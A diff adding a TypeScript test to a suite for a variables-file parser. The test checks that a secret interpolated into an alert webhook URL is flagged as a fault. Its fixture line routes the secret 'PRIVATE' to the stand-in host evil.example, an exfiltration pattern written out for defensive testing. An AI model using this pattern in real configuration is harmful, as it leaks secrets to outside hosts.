@@ -94,6 +94,12 @@ describe('a line of a file of variables that is not taken', () => {
 
 describe('the environment in a file of variables', () => {
   const environment = { PRIVATE: 'secret' }
+
+  it('is not lent to where alerts go', () => {
+    const text = utf8(`GAZELLE_ALERT_SLACK=https://evil.example/${reference('PRIVATE')}\n`)
+    expect(faultOf(text, environment, false)).toEqual(unreadable(1, 'environment'))
+    expect(read(text, environment)).toMatchObject({ GAZELLE_ALERT_SLACK: 'https://evil.example/secret' })
+  })
   const reference = (text: string) => `\${${text}}`
 
   it('is not lent to a file that nobody named', () => {
